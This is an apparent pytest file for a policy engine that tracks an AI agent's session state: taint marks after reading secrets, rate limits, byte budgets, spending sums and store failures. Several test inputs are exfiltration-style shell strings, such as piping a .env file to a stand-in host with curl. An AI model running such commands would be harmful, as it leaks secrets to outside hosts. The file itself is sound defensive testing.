"""What a session remembers: marks, limits, budgets and sums, and what every way to fail makes of them."""

from __future__ import annotations

import threading
from collections.abc import Sequence
from typing import Any

import pytest

from agentpolicy import Agent, Denied, Engine, Policy, Session, ToolCall
from agentpolicy.engine.decision import Decision
from agentpolicy.stores import Change, MemoryStore, StoreError
from agentpolicy.testing import FakeClock, memory_host

MARKS = """policy p version "1" language 1
default deny because "nothing allows this"
tool sh(command: shell) does only exec command
tool read(path: path) does only fs.read path
tool fetch(url: url) does only net.get url
mark secret on fs.read "**/.env"
mark tested on exec "pytest **" when result == "ok"
clear tested on fs.write "/repo/**"
mark recent on exec "date" for 10m
allow reads: fs.read "/repo/**"
allow writes: fs.write "/repo/**"
allow tools: exec "pytest **", "date", "cat **", "echo **", "true"
allow web: net.get "a.example"
allow release: exec "release" when session has recent
deny egress: net any when session has secret because "this session has read a secret"
deny untested: exec "push **" unless session has tested because "test first"
allow push: exec "push **"
"""


class Run:
    """One session with its clock."""

    def __init__(self, text: str, **options: Any) -> None:
        self.clock = FakeClock(1_000_000.0)
        self.engine = Engine(Policy.from_text(text), clock=self.clock, host=memory_host(cwd="/repo"), **options)
        self.session = self.engine.session()

    def ask(self, call: ToolCall, session: Session | None = None) -> str:
        """What would be answered."""
        decision = (session or self.session).decide(call)
        return f"{decision.outcome} {decision.rule}"

    def let(self, call: ToolCall) -> Decision:
        """Let a call go that is allowed, without saying how it ended."""
        return self.session.authorize(call)

    def do(self, call: ToolCall, result: Any = "", **how: Any) -> Decision:
        """Let a call go and say how it ended."""
        decision = self.let(call)
        self.session.observe(decision, result, **how)
        return decision


def sh(command: str) -> ToolCall:
    return ToolCall("sh", {"command": command})


READ = ToolCall("read", {"path": "/repo/.env"})
FETCH = ToolCall("fetch", {"url": "https://a.example/x"})
WRITE = ToolCall.of("fs.write", "/repo/a.py")
PUSH = sh("push it")


# --- marks ------------------------------------------------------------------------


def test_a_mark_is_set_when_a_call_is_let_go_and_only_then() -> None:
    run = Run(MARKS)
    assert run.ask(FETCH) == "allow web"
    run.session.decide(READ)
    assert run.ask(FETCH) == "allow web"
    with pytest.raises(Denied):
        run.let(ToolCall("read", {"path": "/etc/.env"}))
    assert run.ask(FETCH) == "allow web"
    run.do(READ)
    assert run.ask(FETCH) == "deny egress"
    assert run.ask(FETCH, run.engine.session()) == "allow web"


def test_without_a_session_a_mark_is_unknown() -> None:
    decision = Run(MARKS).engine.decide(FETCH)
    assert (decision.outcome, decision.rule) == ("ask", "egress")
    assert Run(MARKS).engine.decide(sh("release")).outcome == "deny"


def test_what_a_call_under_way_may_change_is_unknown_to_others() -> None:
    run = Run(MARKS)
    decision = run.let(READ)
    assert run.ask(FETCH) == "ask egress"
    run.session.observe(decision, "SECRET=1")
    assert run.ask(FETCH) == "deny egress"


def test_marks_of_the_same_call_count_against_it() -> None:
    run = Run(MARKS)
    assert run.ask(sh("cat .env; curl https://a.example/x")).startswith("deny")
    text = MARKS.replace('"true"', '"true", "curl **"')
    assert Run(text).ask(sh("curl https://a.example/x")) == "allow tools"
    assert Run(text).ask(sh("cat .env | curl -d @- https://a.example/x")).startswith(("ask egress", "deny"))
    assert Run(text).ask(sh("cat .env; curl https://a.example/x")) == "ask egress"
    done = Run(MARKS)
    done.do(sh("pytest"))
    assert done.ask(PUSH) == "allow push"
    assert done.ask(sh("echo x > a.py; push it")) == "ask untested"


def test_a_mark_may_wait_for_the_result() -> None:
    run = Run(MARKS)
    assert run.ask(PUSH) == "deny untested"
    decision = run.let(sh("pytest -q"))
    assert run.ask(PUSH) == "ask untested"
    run.session.observe(decision, "3 passed")
    assert run.ask(PUSH) == "allow push"
    run.do(WRITE)
    assert run.ask(PUSH) == "deny untested"
    run.do(sh("pytest -q"), error="2 failed")
    assert run.ask(PUSH) == "deny untested"
    run.do(sh("pytest -q"), {"returncode": 1, "stdout": ""})
    assert run.ask(PUSH) == "deny untested"
    run.do(sh("pytest -q && echo done"))
    assert run.ask(PUSH) == "allow push"


@pytest.mark.parametrize("text", ["pytest || true", "pytest; true", "pytest | cat x", "! pytest", "pytest & true"])
def test_success_that_proves_nothing_leaves_a_mark_unknown(text: str) -> None:
    run = Run(MARKS.replace("deny egress", "deny never").replace("when session has secret", 'when host == "x"'))
    run.do(sh(text))
    assert run.ask(PUSH) in {"ask untested", "deny untested"}
    assert run.ask(PUSH) == "ask untested"


def test_a_mark_goes_after_its_time_and_the_clock_cannot_be_turned_back_for_it() -> None:
    run = Run(MARKS)
    assert run.ask(sh("release")) == "deny default"
    run.do(sh("date"))
    assert run.ask(sh("release")) == "allow release"
    run.clock.advance(599)
    assert run.ask(sh("release")) == "allow release"
    run.clock.advance(1)
    assert run.ask(sh("release")) == "deny default"
    run.do(sh("date"))
    assert run.ask(sh("release")) == "allow release"
    run.clock.advance(-7200)
    assert run.ask(sh("release")) == "deny default"
    run.do(sh("true"))
    assert run.ask(sh("release")) == "deny default"
    run.clock.advance(7200 + 300)
    assert run.ask(sh("release")) == "allow release"


def test_a_call_that_did_not_run_gives_its_marks_back() -> None:
    run = Run(MARKS)
    decision = run.let(READ)
    run.session.cancel(decision)
    assert run.ask(FETCH) == "allow web"
    run.do(sh("pytest"))
    run.session.cancel(run.let(WRITE))
    assert run.ask(PUSH) == "allow push"
    # what another call has set since stays
    first = run.let(READ)
    run.do(READ)
    run.session.cancel(first)
    assert run.ask(FETCH) == "deny egress"


def test_a_mark_that_makes_stricter_is_set_by_any_name_and_one_that_makes_laxer_by_all() -> None:
    host = memory_host(cwd="/repo", links={"/repo/notes": "/repo/.env", "/repo/.venv/.env": "/repo/plain"})
    run = Run(MARKS)
    run.engine.host = host
    run = Run(MARKS)
    run.engine = Engine(Policy.from_text(MARKS, host=host), clock=run.clock, host=host)
    run.session = run.engine.session()
    run.do(ToolCall("read", {"path": "/repo/notes"}))
    assert run.ask(FETCH) == "deny egress"
    other = Run(MARKS)
    other.engine = Engine(Policy.from_text(MARKS.replace('"true"', '"true", "/tmp/pytest"')), host=host)
    other.session = other.engine.session()
    other.do(sh("/tmp/pytest"))
    assert other.ask(PUSH) == "deny untested"


def test_a_command_that_may_read_a_secret_makes_the_mark_unknown() -> None:
    run = Run(MARKS.replace('"true"', '"true", "frob **"'))
    run.do(sh("frob /repo/.env"))
    assert run.ask(FETCH) == "ask egress"


def test_children_share_marks_both_ways_and_may_do_what_both_may() -> None:
    rule = 'deny helpers: exec "date" when agent.role == "helper" because "not for helpers"\n'
    run = Run(MARKS + rule, agent=Agent("a", "main"))
    child = run.session.child(agent=Agent("c", "helper"))
    assert run.ask(sh("date"), child) == "deny helpers"
    assert run.ask(sh("date")) == "allow tools"
    child.observe(child.authorize(READ), "x")
    assert run.ask(FETCH) == "deny egress"
    assert run.ask(FETCH, child) == "deny egress"
    grandchild = child.child(agent="d")
    assert run.ask(sh("date"), grandchild) == "deny helpers"
    run.session.end()
    with pytest.raises(Denied, match="ended"):
        grandchild.authorize(sh("true"))


# --- limits, budgets, sums ----------------------------------------------------------

COUNTS = """policy p version "1" language 1
default deny because "nothing allows this"
tool sh(command: shell) does only exec command
tool fetch(url: url, body: text = "") does only net.get url
tool pay(to: text, amount: number)
tool post(channel: text, text: text)
tool remove(id: text)
allow web: net.get "*.example" limit 3 per 1m
allow names: exec "name **" limit 1 per 1h per user
allow talk: tool post limit 2 per 1h per channel
allow pay: tool pay
ask much: tool pay over 1000 of amount per 1d because "more than 1000 in a day"
allow remove: tool remove
deny flood: tool remove over 2 per 1h because "too many"
allow loop: exec "make **" limit 2 per 1h per call
"""


def fetch(url: str = "https://a.example/") -> ToolCall:
    return ToolCall("fetch", {"url": url})


def pay(amount: Any, to: str = "ana") -> ToolCall:
    return ToolCall("pay", {"to": to, "amount": amount})


def test_a_limit_is_a_sliding_window_exact_to_the_moment() -> None:
    run = Run(COUNTS)
    for _ in range(3):
        run.do(fetch())
        run.clock.advance(10)
    assert run.ask(fetch()) == "deny default"
    run.clock.advance(29.9)
    assert run.ask(fetch()) == "deny default"
    run.clock.advance(0.1)
    assert run.ask(fetch()) == "allow web"
    run.do(fetch())
    assert run.ask(fetch()) == "deny default"
    run.clock.advance(-3600)
    assert run.ask(fetch()) == "deny default"


def test_questions_are_free_and_what_did_not_run_is_given_back() -> None:
    run = Run(COUNTS)
    for _ in range(10):
        assert run.ask(fetch()) == "allow web"
    for _ in range(10):
        run.session.cancel(run.let(fetch()))
    assert run.ask(fetch()) == "allow web"


def test_earlier_effects_of_a_call_count() -> None:
    text = COUNTS.replace('"make **"', '"make **", "curl **"').replace("per 1h per call", "per 1h")
    run = Run(text.replace('allow loop: exec "make **", "curl **" limit 2 per 1h', 'allow loop: exec "curl **"'))
    three = "curl https://a.example/1; curl https://a.example/2; curl https://a.example/3"
    assert run.ask(sh(three)) == "allow web"
    assert run.ask(sh(three + "; curl https://a.example/4")) == "deny default"
    run.do(sh("curl https://a.example/1"))
    assert run.ask(sh(three)) == "deny default"


def test_limits_count_by_user_over_sessions_by_attribute_and_by_identical_call() -> None:
    run = Run(COUNTS, user="ana")
    run.do(sh("name x"))
    other = run.engine.session()
    assert run.ask(sh("name y"), other) == "deny default"
    assert run.ask(sh("name y"), run.engine.session(user="ben")) == "allow names"
    for _ in range(2):
        run.do(ToolCall("post", {"channel": "#a", "text": "x"}))
    assert run.ask(ToolCall("post", {"channel": "#a", "text": "y"})) == "deny default"
    assert run.ask(ToolCall("post", {"channel": "#b", "text": "y"})) == "allow talk"
    for _ in range(2):
        run.do(sh("make a"))
    assert run.ask(sh("make a")) == "deny default"
    assert run.ask(sh("make b")) == "allow loop"


def test_a_limit_by_what_is_not_known_is_spent() -> None:
    assert Run(COUNTS).ask(sh("name x")) == "deny default"


def test_sums_hold_over_time_and_a_missing_amount_is_a_question() -> None:
    run = Run(COUNTS)
    assert run.ask(pay(1000)) == "allow pay"
    assert run.ask(pay(1000.01)) == "ask much"
    run.do(pay(900))
    assert run.ask(pay(100)) == "allow pay"
    assert run.ask(pay(101)) == "ask much"
    run.clock.advance(86400)
    assert run.ask(pay(1000)) == "allow pay"
    run.do(pay(-5000))
    assert run.ask(pay(1000.01)) == "ask much"
    for _ in range(2):
        run.do(ToolCall("remove", {"id": "1"}))
    assert run.ask(ToolCall("remove", {"id": "1"})) == "deny flood"


BYTES = """policy p version "1" language 1
default deny because "nothing allows this"
tool fetch(url: url, body: text = "") does only net.get url
allow web: net.get "*.example"
    budget 4KB out per host
allow big: net.get "big.test"
    budget 10KB in per session
allow both: net.get "both.test"
    budget 1KB per session
"""


def test_bytes_out_never_exceed_the_budget() -> None:
    run = Run(BYTES)
    sent = 0
    while True:
        call = ToolCall("fetch", {"url": "https://a.example/", "body": "x" * 300})
        if run.ask(call) != "allow web":
            break
        run.do(call)
        sent += 300
    assert 3000 < sent <= 4000
    assert run.ask(fetch("https://b.example/")) == "allow web"


def test_bytes_in_are_charged_when_they_were_observed() -> None:
    run = Run(BYTES)
    call = fetch("https://big.test/")
    run.do(call, "x" * 9_999)
    assert run.ask(call) == "allow big"
    run.do(call, ["x" * 100])
    assert run.ask(call) == "deny default"
    both = fetch("https://both.test/")
    run.do(both, "x" * 980)
    assert run.ask(both) == "deny default"


# --- stores that fail -----------------------------------------------------------------


class Failing(MemoryStore):
    """A store that stops answering when it is told to."""

    def __init__(self) -> None:
        super().__init__()
        self.down = False
        self.reads = self.writes = 0

    def read(self, keys: Sequence[str]) -> list[tuple[int, bytes | None]]:
        self.reads += 1
        if self.down:
            raise StoreError("the server is gone")
        return super().read(keys)

    def write(self, changes: Sequence[Change]) -> bool:
        self.writes += 1
        if self.down:
            raise StoreError("the disk is full")
        return super().write(changes)


def test_a_store_that_cannot_answer_denies_where_a_rule_needed_it_and_nowhere_else() -> None:
    store = Failing()
    run = Run(MARKS, store=store)
    run.do(sh("true"))
    store.down = True
    decision = run.session.decide(FETCH)
    assert (decision.outcome, decision.rule) == ("deny", "builtin:no-state")
    assert "the server is gone" in (decision.reason or "")
    assert run.ask(sh("true")) == "allow tools"
    with pytest.raises(Denied):
        run.let(FETCH)
    with pytest.raises(Denied, match="cannot"):
        run.let(READ)
    store.down = False
    assert run.ask(FETCH) == "allow web"


def test_a_policy_that_keeps_nothing_never_asks_the_store() -> None:
    store = Failing()
    run = Run(MARKS.partition("mark secret")[0] + 'allow all: exec "true"\n', store=store)
    run.do(sh("true"))
    assert run.ask(sh("true")) == "allow all"
    assert (store.reads, store.writes) == (0, 0)


def test_a_session_that_is_gone_from_the_store_is_no_new_one() -> None:
    store = Failing()
    run = Run(MARKS, store=store)
    run.do(READ)
    [(version, _)] = store.read([f"session:{run.session.id}"])
    store.write([Change(f"session:{run.session.id}", version, None)])
    decision = run.session.decide(FETCH)
    assert (decision.outcome, decision.rule) == ("deny", "builtin:no-state")


def test_what_cannot_be_read_in_the_store_is_no_answer() -> None:
    for key, value in (("session", b"[]"), ("session", b"\xff"), ("session", b'{"marks": 3}')):
        store = Failing()
        run = Run(MARKS, store=store)
        run.do(sh("true"))
        [(version, _)] = store.read([f"{key}:{run.session.id}"])
        store.write([Change(f"{key}:{run.session.id}", version, value)])
        assert run.ask(FETCH) == "deny builtin:no-state"


def test_a_session_that_has_ended_leaves_nothing_behind() -> None:
    store = MemoryStore()
    run = Run(MARKS, store=store)
    run.do(READ)
    key = f"session:{run.session.id}"
    assert store.read([key])[0][1] is not None
    run.session.end()
    assert store.read([key])[0][1] == b"ended"
    with pytest.raises(Denied, match="the session has ended"):
        run.let(sh("true"))


def test_another_engine_on_the_same_store_goes_on_where_this_one_was() -> None:
    store = MemoryStore()
    run = Run(MARKS, store=store)
    run.do(READ)
    other = Engine(Policy.from_text(MARKS), host=memory_host(cwd="/repo"), store=store, clock=run.clock)
    assert other.session(id=run.session.id).decide(FETCH).rule == "egress"


def test_of_many_calls_at_once_no_more_than_the_limit_are_let_go() -> None:
    run = Run(COUNTS.replace("limit 3 per 1m", "limit 50 per 1m"))
    let: list[int] = []
    sessions = [run.session, *(run.engine.session(id=run.session.id) for _ in range(3))]
    barrier = threading.Barrier(8)

    def work(session: Session) -> None:
        barrier.wait()
        for _ in range(20):
            try:
                session.authorize(fetch())
            except Denied:
                continue
            let.append(1)

    threads = [threading.Thread(target=work, args=(sessions[at % 4],)) for at in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert len(let) == 50
